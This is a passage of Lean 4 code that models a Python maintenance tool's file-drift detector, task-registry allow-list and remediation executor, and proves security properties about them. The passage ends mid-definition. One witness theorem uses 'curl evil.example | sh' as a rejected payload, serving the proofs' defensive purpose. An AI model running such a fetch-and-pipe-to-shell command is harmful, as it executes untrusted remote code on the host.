  | regular (content : List Nat)
  | symlink
  | missing
deriving DecidableEq

/-- Embedding of `state.py` `compute_file_history_hash`: `None` for a missing
or non-regular path, `None` for a symlink (refused before opening), and the
prefixed digest of the content for a regular file opened with `O_NOFOLLOW`. -/
def compute_file_history_hash (digest : List Nat → String) (fs : String → FileKind)
    (p : String) : Option String :=
  match fs p with
  | .regular c => some ("sha256:" ++ digest c)
  | .symlink => none
  | .missing => none

/-- Modelled from the spec: `compute_file_hashes` (imported from `core.state`
by `main2.py` but absent from the source tree) hashes each tracked file and
records an entry only for files that produced a hash, matching the in-tree
`update_file_hashes` loop and spec section 4.3. -/
def compute_file_hashes (digest : List Nat → String) (fs : String → FileKind)
    (files : List String) : List (String × String) :=
  files.foldl
    (fun acc p =>
      match compute_file_history_hash digest fs p with
      | some h => dictSet acc p h
      | none => acc)
    []

/-- Modelled from the spec: `check_drift previous current` (absent from the
source tree) is true exactly when some tracked path's hash changed, was
removed, or was newly added. -/
def check_drift (prev curr : List (String × String)) : Bool :=
  (prev.map Prod.fst ++ curr.map Prod.fst).any
    (fun k => lookupS prev k != lookupS curr k)

theorem lookupS_isSome_mem_keys {α : Type} (l : List (String × α)) (k : String) (v : α)
    (h : lookupS l k = some v) : k ∈ l.map Prod.fst := by
  induction l with
  | nil => simp [lookupS] at h
  | cons e rest ih =>
    rw [lookupS_cons] at h
    by_cases he : e.1 = k
    · simp [he]
    · simp only [he, if_false] at h
      simp [ih h]

theorem compute_file_hashes_congr_aux (digest : List Nat → String)
    (f1 f2 : String → FileKind) (files : List String) (acc : List (String × String))
    (h : ∀ p ∈ files, f1 p = f2 p) :
    files.foldl
      (fun acc p =>
        match compute_file_history_hash digest f1 p with
        | some h => dictSet acc p h
        | none => acc) acc =
    files.foldl
      (fun acc p =>
        match compute_file_history_hash digest f2 p with
        | some h => dictSet acc p h
        | none => acc) acc := by
  induction files generalizing acc with
  | nil => rfl
  | cons q rest ih =>
    simp only [List.foldl_cons]
    have hq : f1 q = f2 q := h q (List.mem_cons_self q rest)
    have hrest : ∀ p ∈ rest, f1 p = f2 p := fun p hp => h p (List.mem_cons_of_mem q hp)
    rw [show compute_file_history_hash digest f1 q = compute_file_history_hash digest f2 q by
      unfold compute_file_history_hash
      rw [hq]]
    exact ih _ hrest

theorem compute_file_hashes_fold_preserves (digest : List Nat → String)
    (fs : String → FileKind) (files : List String) (acc : List (String × String))
    (p : String) (hp : p ∉ files) :
    lookupS (files.foldl
      (fun acc q =>
        match compute_file_history_hash digest fs q with
        | some h => dictSet acc q h
        | none => acc) acc) p = lookupS acc p := by
  induction files generalizing acc with
  | nil => rfl
  | cons q rest ih =>
    have hq : p ≠ q := fun he => hp (he ▸ List.mem_cons_self q rest)
    have hrest : p ∉ rest := fun hm => hp (List.mem_cons_of_mem q hm)
    simp only [List.foldl_cons]
    rw [ih _ hrest]
    cases compute_file_history_hash digest fs q with
    | none => rfl
    | some h => exact lookupS_dictSet_other acc q p h hq

theorem compute_file_hashes_fold_none (digest : List Nat → String)
    (fs : String → FileKind) (files : List String) (acc : List (String × String))
    (p : String) (hsym : compute_file_history_hash digest fs p = none)
    (hacc : lookupS acc p = none) :
    lookupS (files.foldl
      (fun acc q =>
        match compute_file_history_hash digest fs q with
        | some h => dictSet acc q h
        | none => acc) acc) p = none := by
  induction files generalizing acc with
  | nil => exact hacc
  | cons q rest ih =>
    simp only [List.foldl_cons]
    by_cases hq : q = p
    · subst hq
      rw [hsym]
      exact ih acc hacc
    · cases hcq : compute_file_history_hash digest fs q with
      | none => exact ih acc hacc
      | some h =>
        refine ih _ ?_
        rw [lookupS_dictSet_other acc q p h (fun he => hq he.symm)]
        exact hacc

theorem compute_file_hashes_fold_regular (digest : List Nat → String)
    (fs : String → FileKind) (files : List String) (acc : List (String × String))
    (p : String) (c : List Nat) (hmem : p ∈ files) (hreg : fs p = .regular c) :
    lookupS (files.foldl
      (fun acc q =>
        match compute_file_history_hash digest fs q with
        | some h => dictSet acc q h
        | none => acc) acc) p = some ("sha256:" ++ digest c) := by
  induction files generalizing acc with
  | nil => simp at hmem
  | cons q rest ih =>
    simp only [List.foldl_cons]
    by_cases hrest : p ∈ rest
    · exact ih _ hrest
    · have hpq : p = q := by
        rcases List.mem_cons.mp hmem with h | h
        · exact h
        · exact absurd h hrest
      subst hpq
      have hc : compute_file_history_hash digest fs p = some ("sha256:" ++ digest c) := by
        unfold compute_file_history_hash
        rw [hreg]
      rw [hc]
      rw [compute_file_hashes_fold_preserves digest fs rest _ p hrest]
      exact lookupS_dictSet_self acc p _

/-- C7: the drift detector is a pure function of file contents — hash maps
depend only on the contents of the tracked files; a symlink produces no entry;
`check_drift` on two equal maps is false; and any tracked path whose lookup
differs between the two maps (changed content with differing digests, an added
path, or a removed path) makes `check_drift` true. -/
theorem drift_detector_pure_and_sensitive :
    (∀ (digest : List Nat → String) (f1 f2 : String → FileKind) (files : List String),
      (∀ p ∈ files, f1 p = f2 p) →
      compute_file_hashes digest f1 files = compute_file_hashes digest f2 files) ∧
    (∀ (digest : List Nat → String) (fs : String → FileKind) (files : List String)
      (p : String), fs p = .symlink →
      lookupS (compute_file_hashes digest fs files) p = none) ∧
    (∀ a : List (String × String), check_drift a a = false) ∧
    (∀ (prev curr : List (String × String)) (p : String),
      lookupS prev p ≠ lookupS curr p → check_drift prev curr = true) ∧
    (∀ (digest : List Nat → String) (fs : String → FileKind) (files : List String)
      (p : String) (c : List Nat), p ∈ files → fs p = .regular c →
      lookupS (compute_file_hashes digest fs files) p = some ("sha256:" ++ digest c)) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro digest f1 f2 files h
    exact compute_file_hashes_congr_aux digest f1 f2 files [] h
  · intro digest fs files p hsym
    refine compute_file_hashes_fold_none digest fs files [] p ?_ rfl
    unfold compute_file_history_hash
    rw [hsym]
  · intro a
    rw [check_drift, List.any_eq_false]
    intro k _
    simp
  · intro prev curr p hne
    rw [check_drift, List.any_eq_true]
    refine ⟨p, ?_, by simpa using hne⟩
    rw [List.mem_append]
    cases hp : lookupS prev p with
    | some v => exact Or.inl (lookupS_isSome_mem_keys prev p v hp)
    | none =>
      cases hc : lookupS curr p with
      | some w => exact Or.inr (lookupS_isSome_mem_keys curr p w hc)
      | none => exact absurd (hp.trans hc.symm) hne
  · intro digest fs files p c hmem hreg
    exact compute_file_hashes_fold_regular digest fs files [] p c hmem hreg

/-- Concrete filesystem for the C7 witness: `a.conf` has content `[1]`,
`link.conf` is a symlink, everything else is missing. -/
def c7fs1 : String → FileKind :=
  fun p => if p = "a.conf" then .regular [1] else if p = "link.conf" then .symlink else .missing

/-- Same filesystem with `a.conf` modified to content `[2]`. -/
def c7fs2 : String → FileKind :=
  fun p => if p = "a.conf" then .regular [2] else if p = "link.conf" then .symlink else .missing

/-- Concrete digest for the C7 witness. -/
def c7digest : List Nat → String :=
  fun c => toString c

/-- Witness for C7 at concrete inputs: hashing twice yields the same map, the
symlink gets no entry, equal maps show no drift, and modifying the tracked
file's contents makes `check_drift` true. -/
theorem drift_detector_pure_and_sensitive_witness :
    compute_file_hashes c7digest c7fs1 ["a.conf", "link.conf"] =
      compute_file_hashes c7digest c7fs1 ["a.conf", "link.conf"] ∧
    lookupS (compute_file_hashes c7digest c7fs1 ["a.conf", "link.conf"]) "link.conf" = none ∧
    check_drift (compute_file_hashes c7digest c7fs1 ["a.conf", "link.conf"])
      (compute_file_hashes c7digest c7fs1 ["a.conf", "link.conf"]) = false ∧
    check_drift (compute_file_hashes c7digest c7fs1 ["a.conf", "link.conf"])
      (compute_file_hashes c7digest c7fs2 ["a.conf", "link.conf"]) = true := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · exact drift_detector_pure_and_sensitive.1 c7digest c7fs1 c7fs1 _ (fun p _ => rfl)
  · exact drift_detector_pure_and_sensitive.2.1 c7digest c7fs1 _ "link.conf" rfl
  · exact drift_detector_pure_and_sensitive.2.2.1 _
  · refine drift_detector_pure_and_sensitive.2.2.2.1 _ _ "a.conf" ?_
    decide

/-! ## Task registry provenance: `main2.py` `discover_tasks` (lines 172-216)

The import machinery that builds the per-module task set (BaseTask subclasses
and module-level `TASK_REGISTRY` dicts of the allow-listed modules) is an
input of the embedding; the provenance gate over the raw global registry from
`core/registry.py` `get_task_registry` is embedded exactly.  A callable is
represented by its declared `__module__` plus an identity tag. -/

/-- A Python callable as the gate sees it: its declared origin module (the
`__module__` attribute, empty when the attribute is missing) and an identity
distinguishing distinct callables. -/
structure Fn where
  module : String
  tag : Nat
deriving DecidableEq

/-- `main2.py` `ALLOWED_MODULES` (lines 48-64). -/
def ALLOWED_MODULES : List String :=
  ["brew", "cloudflared", "dev_tools", "dns_helpers", "dns_sanity", "dns_stack",
   "dummy_healing_task", "launch_agents", "mise", "network", "ollama", "optional",
   "pihole", "security", "system"]

/-- The gate's provenance predicate: the declared origin module equals
`nextlevelapex.tasks.<m>` for some allow-listed `m` (exact match, lines
202-208). -/
def moduleAllowed (m : String) : Bool :=
  ALLOWED_MODULES.any (fun a => m = "nextlevelapex.tasks." ++ a)

/-- Embedding of the registry gate of `discover_tasks`: starting from the
tasks collected out of the allow-listed modules, each raw global-registry
entry is accepted into the task map only when its origin is allow-listed;
otherwise a security warning naming the task is recorded and the map is left
unchanged. -/
def discover_tasks (moduleTasks : List (String × Fn)) (registry : List (String × Fn)) :
    List (String × Fn) × List String :=
  registry.foldl
    (fun acc e =>
      if moduleAllowed e.2.module then (dictSet acc.1 e.1 e.2, acc.2)
      else (acc.1, acc.2 ++ [e.1]))
    (moduleTasks, [])

theorem mem_values_dictSet {α : Type} [DecidableEq α] (l : List (String × α)) (k : String)
    (v w : α) (h : w ∈ (dictSet l k v).map Prod.snd) :
    w = v ∨ w ∈ l.map Prod.snd := by
  induction l with
  | nil => simpa [dictSet] using h
  | cons e rest ih =>
    by_cases he : e.1 = k
    · simp only [dictSet, he, if_true, List.map_cons, List.mem_cons] at h
      rcases h with h | h
      · exact Or.inl h
      · exact Or.inr (by simp [h])
    · simp only [dictSet, he, if_false, List.map_cons, List.mem_cons] at h
      rcases h with h | h
      · exact Or.inr (by simp [h])
      · rcases ih h with h2 | h2
        · exact Or.inl h2
        · exact Or.inr (by simp [h2])

theorem discover_tasks_fold_values (registry : List (String × Fn))
    (acc : List (String × Fn)) (warns : List String) (w : Fn)
    (h : w ∈ (registry.foldl
      (fun acc e =>
        if moduleAllowed e.2.module then (dictSet acc.1 e.1 e.2, acc.2)
        else (acc.1, acc.2 ++ [e.1]))
      (acc, warns)).1.map Prod.snd) :
    w ∈ acc.map Prod.snd ∨
      ∃ n, (n, w) ∈ registry ∧ moduleAllowed w.module = true := by
  induction registry generalizing acc warns with
  | nil => exact Or.inl h
  | cons e rest ih =>
    simp only [List.foldl_cons] at h
    by_cases hall : moduleAllowed e.2.module
    · simp only [hall, if_true] at h
      rcases ih (dictSet acc e.1 e.2) _ h with h2 | h2
      · rcases mem_values_dictSet acc e.1 e.2 w h2 with h3 | h3
        · refine Or.inr ⟨e.1, ?_, by rw [h3]; exact hall⟩
          rw [h3, Prod.mk.eta]
          exact List.mem_cons_self e rest
        · exact Or.inl h3
      · rcases h2 with ⟨n, hn, hm⟩
        exact Or.inr ⟨n, List.mem_cons_of_mem e hn, hm⟩
    · simp only [hall, if_false] at h
      rcases ih acc _ h with h2 | h2
      · exact Or.inl h2
      · rcases h2 with ⟨n, hn, hm⟩
        exact Or.inr ⟨n, List.mem_cons_of_mem e hn, hm⟩

theorem discover_warns_mono (registry : List (String × Fn))
    (acc : List (String × Fn)) (warns : List String) (n : String) (h : n ∈ warns) :
    n ∈ (registry.foldl
      (fun acc e =>
        if moduleAllowed e.2.module then (dictSet acc.1 e.1 e.2, acc.2)
        else (acc.1, acc.2 ++ [e.1]))
      (acc, warns)).2 := by
  induction registry generalizing acc warns with
  | nil => exact h
  | cons e rest ih =>
    simp only [List.foldl_cons]
    by_cases h2 : moduleAllowed e.2.module
    · simp only [h2, if_true]
      exact ih _ _ h
    · simp only [h2, Bool.false_eq_true, if_false]
      exact ih _ _ (List.mem_append_left _ h)

theorem discover_tasks_fold_warns (registry : List (String × Fn))
    (acc : List (String × Fn)) (warns : List String) (n : String) (w : Fn)
    (hmem : (n, w) ∈ registry) (hrej : moduleAllowed w.module = false) :
    n ∈ (registry.foldl
      (fun acc e =>
        if moduleAllowed e.2.module then (dictSet acc.1 e.1 e.2, acc.2)
        else (acc.1, acc.2 ++ [e.1]))
      (acc, warns)).2 := by
  induction registry generalizing acc warns with
  | nil => simp at hmem
  | cons e rest ih =>
    simp only [List.foldl_cons]
    rcases List.mem_cons.mp hmem with h | h
    · have he : e = (n, w) := h.symm
      subst he
      simp only [hrej, Bool.false_eq_true, if_false]
      exact discover_warns_mono rest _ _ n (by simp)
    · by_cases h2 : moduleAllowed e.2.module
      · simp only [h2, if_true]
        exact ih _ _ h
      · simp only [h2, Bool.false_eq_true, if_false]
        exact ih _ _ h

/-- C4: every callable in the returned task map either came from the
allow-listed module scan or is a raw-registry entry whose declared origin
module exactly matches `nextlevelapex.tasks.<m>` for an allow-listed `m`;
consequently a raw-registry callable with a non-matching origin that is not
among the module-scanned callables is absent from the result (never executed),
and its name is recorded in the security-warning log. -/
theorem discover_tasks_provenance :
    (∀ (moduleTasks registry : List (String × Fn)) (w : Fn),
      w ∈ (discover_tasks moduleTasks registry).1.map Prod.snd →
      w ∈ moduleTasks.map Prod.snd ∨
        ∃ n, (n, w) ∈ registry ∧ moduleAllowed w.module = true) ∧
    (∀ (moduleTasks registry : List (String × Fn)) (n : String) (w : Fn),
      (n, w) ∈ registry → moduleAllowed w.module = false →
      w ∉ moduleTasks.map Prod.snd →
      w ∉ (discover_tasks moduleTasks registry).1.map Prod.snd ∧
        n ∈ (discover_tasks moduleTasks registry).2) := by
  constructor
  · intro moduleTasks registry w h
    exact discover_tasks_fold_values registry moduleTasks [] w h
  · intro moduleTasks registry n w hmem hrej hnot
    constructor
    · intro hval
      rcases discover_tasks_fold_values registry moduleTasks [] w hval with h | h
      · exact hnot h
      · rcases h with ⟨_, _, hall⟩
        rw [hrej] at hall
        exact Bool.noConfusion hall
    · exact discover_tasks_fold_warns registry moduleTasks [] n w hmem hrej

/-- Witness for C4 at a concrete input: a registry callable claiming origin
`temp_malicious_script` is excluded from the discovered map and logged, while
the discovered map keeps only the module-scanned callable. -/
theorem discover_tasks_provenance_witness :
    (⟨"temp_malicious_script", 66⟩ : Fn) ∉
      (discover_tasks [("Brew Install", ⟨"nextlevelapex.tasks.brew", 1⟩)]
        [("Malicious Task", ⟨"temp_malicious_script", 66⟩)]).1.map Prod.snd ∧
    "Malicious Task" ∈
      (discover_tasks [("Brew Install", ⟨"nextlevelapex.tasks.brew", 1⟩)]
        [("Malicious Task", ⟨"temp_malicious_script", 66⟩)]).2 := by
  exact discover_tasks_provenance.2
    [("Brew Install", ⟨"nextlevelapex.tasks.brew", 1⟩)]
    [("Malicious Task", ⟨"temp_malicious_script", 66⟩)]
    "Malicious Task" ⟨"temp_malicious_script", 66⟩
    (by decide) (by decide) (by decide)

/-! ## Remediation executor: `main2.py` `execute_remediation` (lines 299-385)

Process execution is abstracted by an environment mapping an argument vector
to its outcome; the embedding returns the boolean result together with the
list of argument vectors actually spawned, so "no process was spawned" is a
provable statement.  The `restart_service` branch catches only
`CalledProcessError`, so a `TimeoutExpired` there escapes the function; that
is modelled by the `Except` error channel. -/

/-- A `RemediationAction` (TypedDict declared in `tasks/base_task.py`,
consumed via `action.get(...)`). -/
structure RAction where
  action_type : String
  payload : String
  requires_elevated : Bool
deriving DecidableEq

/-- The fixed allow-list mapping literal `shell_cmd` payload text to a
pre-built argument vector (lines 311-316). -/
def ALLOWED_SHELL_CMDS : List (String × List String) :=
  [("touch /tmp/nextlevelapex_dummy_heal.txt",
    ["touch", "/tmp/nextlevelapex_dummy_heal.txt"])]

/-- Outcome of one spawned process. -/
inductive ProcOutcome where
  | success
  | timeout
  | exitFail (code : Nat)
deriving DecidableEq

/-- A character admitted by the `restart_service` payload pattern
`[a-zA-Z0-9_\-]`. -/
def serviceChar (c : Char) : Bool :=
  c.isAlphanum || c = '_' || c = '-'

/-- Python `re.match` of `^[a-zA-Z0-9_\-]+$` against the payload: a non-empty
run of admitted characters, where `$` also matches just before one trailing
newline. -/
def serviceNameMatch (s : String) : Bool :=
  let core := if s.endsWith "\n" then s.dropRight 1 else s
  !core.isEmpty && core.toList.all serviceChar

/-- Embedding of `execute_remediation`: result is `(succeeded, spawned argument
vectors)`; `.error` is an exception escaping the function (only the
`restart_service` timeout, whose `TimeoutExpired` is not caught there). -/
def execute_remediation (isDarwin : Bool) (env : List String → ProcOutcome)
    (a : RAction) (dry_run : Bool) : Except String (Bool × List (List String)) :=
  if a.action_type = "shell_cmd" then
    match lookupS ALLOWED_SHELL_CMDS a.payload with
    | none => .ok (false, [])
    | some vec =>
      let cmd := if a.requires_elevated then "sudo" :: vec else vec
      if dry_run then .ok (true, [])
      else
        match env cmd with
        | .success => .ok (true, [cmd])
        | .timeout => .ok (false, [cmd])
        | .exitFail _ => .ok (false, [cmd])
  else if a.action_type = "restart_service" then
    if serviceNameMatch a.payload then
      let cmd :=
        if isDarwin then ["brew", "services", "restart", a.payload]
        else ["sudo", "systemctl", "restart", a.payload]
      if dry_run then .ok (true, [])
      else
        match env cmd with
        | .success => .ok (true, [cmd])
        | .exitFail _ => .ok (false, [cmd])
        | .timeout => .error "subprocess.TimeoutExpired"
    else .ok (false, [])
  else if a.action_type = "manual" then .ok (false, [])
  else .ok (false, [])

/-! ## Self-healing protocol: `main2.py` `auto_fix` (lines 715-819)

Task bodies are external collaborators: each failing task is modelled by what
its diagnose-mode run returns (an exception or a result carrying an optional
`RemediationPlan`) and what its post-remediation re-run returns (an exception
or a status string).  The embedding follows the source loop exactly: per
failing task it obtains the plan, executes actions in order stopping at the
first failure, and only on all-success re-invokes the task, setting the
persisted status to PASS only when the re-run reports PASS; the state file is
saved only when `fixes_applied > 0` and not in dry-run. -/

/-- A `RemediationPlan` (TypedDict): description plus ordered actions. -/
structure RemediationPlan where
  description : Option String
  actions : List RAction

/-- What a failing task's diagnose-mode `run_task` produced. -/
structure DiagResult where
  plan : Option RemediationPlan
  recommendation : Option String

/-- A failing task as `auto_fix` interacts with it: the diagnose run and the
post-remediation verification run (each may raise). -/
structure TaskSpec where
  diag : Except String DiagResult
  post : Except String String

/-- The action loop of `auto_fix` (lines 768-775): run actions in order,
stop at the first failure; an exception propagates. -/
def run_plan_actions (isDarwin : Bool) (env : List String → ProcOutcome)
    (dry_run : Bool) : List RAction → Except String Bool
  | [] => .ok true
  | a :: rest =>
    match execute_remediation isDarwin env a dry_run with
    | .error e => .error e
    | .ok (true, _) => run_plan_actions isDarwin env dry_run rest
    | .ok (false, _) => .ok false

/-- Python `state["task_status"][t]["status"] = "PASS"`: mutate the status
field of the entry at `t`, keeping the rest of the record. -/
def set_status_pass (l : List (String × TaskStatusEntry)) (t : String) :
    List (String × TaskStatusEntry) :=
  l.map (fun e => if e.1 = t then (e.1, { e.2 with status := "PASS" }) else e)

/-- The loop state of `auto_fix`: the (mutable) `task_status` map, the tasks
re-invoked for post-flight validation, and the two counters. -/
structure AutoFixAcc where
  statuses : List (String × TaskStatusEntry)
  reruns : List String
  fixes : Nat
  failures : Nat

/-- One iteration of the `auto_fix` loop for failing task `t` (lines
734-804). -/
def auto_fix_step (isDarwin : Bool) (env : List String → ProcOutcome) (dry_run : Bool)
    (discovered : String → Option TaskSpec) (acc : AutoFixAcc) (t : String) : AutoFixAcc :=
  match discovered t with
  | none => acc
  | some spec =>
    match spec.diag with
    | .error _ => { acc with failures := acc.failures + 1 }
    | .ok d =>
      match d.plan with
      | none => { acc with failures := acc.failures + 1 }
      | some p =>
        match run_plan_actions isDarwin env dry_run p.actions with
        | .error _ => { acc with failures := acc.failures + 1 }
        | .ok false => { acc with failures := acc.failures + 1 }
        | .ok true =>
          if dry_run then acc
          else
            match spec.post with
            | .error _ =>
              { acc with reruns := acc.reruns ++ [t], failures := acc.failures + 1 }
            | .ok s =>
              if s = "PASS" then
                { statuses := set_status_pass acc.statuses t,
                  reruns := acc.reruns ++ [t],
                  fixes := acc.fixes + 1,
                  failures := acc.failures }
              else
                { acc with reruns := acc.reruns ++ [t], failures := acc.failures + 1 }

/-- The failing tasks `auto_fix` iterates over (lines 726-728). -/
def failed_tasks (statuses : List (String × TaskStatusEntry)) : List String :=
  (statuses.filter (fun e => e.2.status = "FAIL")).map Prod.fst

/-- Embedding of `auto_fix`: fold the healing loop over the failing tasks and
report whether the state file is saved (`fixes_applied > 0 and not dry_run`,
lines 807-808). -/
def auto_fix (isDarwin : Bool) (env : List String → ProcOutcome) (dry_run : Bool)
    (discovered : String → Option TaskSpec) (statuses : List (String × TaskStatusEntry)) :
    AutoFixAcc × Bool :=
  let fin := (failed_tasks statuses).foldl
    (auto_fix_step isDarwin env dry_run discovered) ⟨statuses, [], 0, 0⟩
  (fin, fin.fixes > 0 && !dry_run)

/-- `auto_fix` together with its effect on the on-disk state file: the file is
rewritten via `save_state` exactly when the loop reports fixes and the run is
not a dry run. -/
def auto_fix_with_disk (isDarwin : Bool) (env : List String → ProcOutcome)
    (discovered : String → Option TaskSpec) (statuses : List (String × TaskStatusEntry))
    (disk : FsState) (serialize : List (String × TaskStatusEntry) → List Nat)
    (dry_run : Bool) : FsState :=
  let r := auto_fix isDarwin env dry_run discovered statuses
  if r.2 then (save_state disk (serialize r.1.statuses) false none).1 else disk

/-- C2: a `shell_cmd` action whose payload is not exactly an allow-list key
fails without spawning any process; an allow-listed payload spawns exactly the
pre-built argument vector from the table, with the fixed `sudo` argument
prepended when elevation is requested, succeeding exactly when that process
succeeds; in dry-run mode nothing is spawned either way. -/
theorem execute_remediation_allowlist_gate :
    (∀ (isD : Bool) (env : List String → ProcOutcome) (a : RAction) (dry : Bool),
      a.action_type = "shell_cmd" → lookupS ALLOWED_SHELL_CMDS a.payload = none →
      execute_remediation isD env a dry = .ok (false, [])) ∧
    (∀ (isD : Bool) (env : List String → ProcOutcome) (a : RAction) (vec : List String),
      a.action_type = "shell_cmd" → lookupS ALLOWED_SHELL_CMDS a.payload = some vec →
      ∃ r : Bool, execute_remediation isD env a false =
        .ok (r, [if a.requires_elevated then "sudo" :: vec else vec]) ∧
        (r = true ↔ env (if a.requires_elevated then "sudo" :: vec else vec) =
          ProcOutcome.success)) ∧
    (∀ (isD : Bool) (env : List String → ProcOutcome) (a : RAction),
      a.action_type = "shell_cmd" →
      execute_remediation isD env a true =
        .ok ((lookupS ALLOWED_SHELL_CMDS a.payload).isSome, [])) := by
  refine ⟨?_, ?_, ?_⟩
  · intro isD env a dry h1 h2
    unfold execute_remediation
    rw [if_pos h1, h2]
  · intro isD env a vec h1 h2
    unfold execute_remediation
    rw [if_pos h1, h2]
    cases henv : env (if a.requires_elevated then "sudo" :: vec else vec) with
    | success => exact ⟨true, by simp [henv], by simp [henv]⟩
    | timeout => exact ⟨false, by simp [henv], by simp [henv]⟩
    | exitFail c => exact ⟨false, by simp [henv], by simp [henv]⟩
  · intro isD env a h1
    unfold execute_remediation
    rw [if_pos h1]
    cases h2 : lookupS ALLOWED_SHELL_CMDS a.payload with
    | none => rfl
    | some vec => simp

/-- Witness for C2 at concrete inputs: a non-allow-listed payload is rejected
with no spawn; the allow-listed payload with elevation spawns exactly
`sudo touch /tmp/nextlevelapex_dummy_heal.txt`. -/
theorem execute_remediation_allowlist_gate_witness :
    execute_remediation false (fun _ => ProcOutcome.success)
      ⟨"shell_cmd", "curl evil.example | sh", false⟩ false = .ok (false, []) ∧
    ∃ r : Bool, execute_remediation false (fun _ => ProcOutcome.success)
      ⟨"shell_cmd", "touch /tmp/nextlevelapex_dummy_heal.txt", true⟩ false =
        .ok (r, [["sudo", "touch", "/tmp/nextlevelapex_dummy_heal.txt"]]) ∧
        (r = true ↔ (fun _ => ProcOutcome.success)
          ["sudo", "touch", "/tmp/nextlevelapex_dummy_heal.txt"] = ProcOutcome.success) := by
  constructor
  · exact execute_remediation_allowlist_gate.1 false (fun _ => ProcOutcome.success)
      ⟨"shell_cmd", "curl evil.example | sh", false⟩ false rfl (by decide)
  · exact execute_remediation_allowlist_gate.2.1 false (fun _ => ProcOutcome.success)
      ⟨"shell_cmd", "touch /tmp/nextlevelapex_dummy_heal.txt", true⟩
      ["touch", "/tmp/nextlevelapex_dummy_heal.txt"] rfl (by decide)

theorem set_status_pass_lookup_other (l : List (String × TaskStatusEntry)) (u t : String)
    (h : t ≠ u) : lookupS (set_status_pass l u) t = lookupS l t := by
  unfold set_status_pass
  induction l with
  | nil => rfl
  | cons e rest ih =>
    simp only [List.map_cons]
    rw [lookupS_cons, lookupS_cons]
    by_cases he : e.1 = u
    · have hne : ¬ (e.1 = t) := fun h2 => h (h2.symm.trans he)
      rw [if_pos he]
      simp only [hne, if_false]
      exact ih
    · rw [if_neg he]
      by_cases het : e.1 = t
      · rw [if_pos het, if_pos het]
      · rw [if_neg het, if_neg het]
        exact ih

theorem set_status_pass_lookup_self (l : List (String × TaskStatusEntry)) (t : String)
    (v : TaskStatusEntry) (h : lookupS l t = some v) :
    lookupS (set_status_pass l t) t = some { v with status := "PASS" } := by
  induction l with
  | nil => simp [lookupS] at h
  | cons e rest ih =>
    rw [lookupS_cons] at h
    by_cases he : e.1 = t
    · simp only [he, if_true] at h
      cases h
      simp [set_status_pass, he, lookupS_cons]
    · simp only [he, if_false] at h
      simp only [set_status_pass, List.map_cons, he, if_false]
      rw [lookupS_cons]
      simp only [he, if_false]
      exact ih h

/-- The healing loop mutates the status map only through
`set_status_pass` at the iterated task. -/
theorem auto_fix_step_statuses_cases (isD : Bool) (env : List String → ProcOutcome)
    (dry : Bool) (disc : String → Option TaskSpec) (acc : AutoFixAcc) (u : String) :
    (auto_fix_step isD env dry disc acc u).statuses = acc.statuses ∨
    (auto_fix_step isD env dry disc acc u).statuses = set_status_pass acc.statuses u := by
  cases hdisc : disc u with
  | none => simp [auto_fix_step, hdisc]
  | some spec =>
    cases hdiag : spec.diag with
    | error e => simp [auto_fix_step, hdisc, hdiag]
    | ok d =>
      cases hplan : d.plan with
      | none => simp [auto_fix_step, hdisc, hdiag, hplan]
      | some p =>
        cases hacts : run_plan_actions isD env dry p.actions with
        | error e => simp [auto_fix_step, hdisc, hdiag, hplan, hacts]
        | ok b =>
          cases b with
          | false => simp [auto_fix_step, hdisc, hdiag, hplan, hacts]
          | true =>
            cases dry with
            | true => simp [auto_fix_step, hdisc, hdiag, hplan, hacts]
            | false =>
              cases hpost : spec.post with
              | error e => simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost]
              | ok s =>
                by_cases hs : s = "PASS"
                · simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost, hs]
                · simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost, hs]

/-- The healing loop only ever appends to the rerun log. -/
theorem auto_fix_step_reruns_cases (isD : Bool) (env : List String → ProcOutcome)
    (dry : Bool) (disc : String → Option TaskSpec) (acc : AutoFixAcc) (u : String) :
    (auto_fix_step isD env dry disc acc u).reruns = acc.reruns ∨
    (auto_fix_step isD env dry disc acc u).reruns = acc.reruns ++ [u] := by
  cases hdisc : disc u with
  | none => simp [auto_fix_step, hdisc]
  | some spec =>
    cases hdiag : spec.diag with
    | error e => simp [auto_fix_step, hdisc, hdiag]
    | ok d =>
      cases hplan : d.plan with
      | none => simp [auto_fix_step, hdisc, hdiag, hplan]
      | some p =>
        cases hacts : run_plan_actions isD env dry p.actions with
        | error e => simp [auto_fix_step, hdisc, hdiag, hplan, hacts]
        | ok b =>
          cases b with
          | false => simp [auto_fix_step, hdisc, hdiag, hplan, hacts]
          | true =>
            cases dry with
            | true => simp [auto_fix_step, hdisc, hdiag, hplan, hacts]
            | false =>
              cases hpost : spec.post with
              | error e => simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost]
              | ok s =>
                by_cases hs : s = "PASS"
                · simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost, hs]
                · simp [auto_fix_step, hdisc, hdiag, hplan, hacts, hpost, hs]

theorem auto_fix_fold_statuses_not_mem (isD : Bool) (env : List String → ProcOutcome)
    (dry : Bool) (disc : String → Option TaskSpec) (l : List String) (acc : AutoFixAcc)
    (t : String) (h : t ∉ l) :
    lookupS ((l.foldl (auto_fix_step isD env dry disc) acc).statuses) t =
      lookupS acc.statuses t := by
  induction l generalizing acc with
  | nil => rfl
  | cons u rest ih =>
    have hu : t ≠ u := fun he => h (he ▸ List.mem_cons_self u rest)
    have hrest : t ∉ rest := fun hm => h (List.mem_cons_of_mem u hm)
    simp only [List.foldl_cons]
    rw [ih _ hrest]
    rcases auto_fix_step_statuses_cases isD env dry disc acc u with hc | hc
    · rw [hc]
    · rw [hc]
      exact set_status_pass_lookup_other acc.statuses u t hu

theorem auto_fix_fold_reruns_mono (isD : Bool) (env : List String → ProcOutcome)
    (dry : Bool) (disc : String → Option TaskSpec) (l : List String) (acc : AutoFixAcc)
    (t : String) (h : t ∈ acc.reruns) :
    t ∈ (l.foldl (auto_fix_step isD env dry disc) acc).reruns := by
  induction l generalizing acc with
  | nil => exact h
  | cons u rest ih =>
    simp only [List.foldl_cons]
    refine ih _ ?_
    rcases auto_fix_step_reruns_cases isD env dry disc acc u with hc | hc
    · rw [hc]; exact h
    · rw [hc]; exact List.mem_append_left _ h

/-- Whether `auto_fix` (not in dry-run) heals task `t`: a callable is
discovered, its diagnose run returns a plan, every action succeeds, and the
post-flight re-run reports PASS. -/
def healedB (isD : Bool) (env : List String → ProcOutcome)
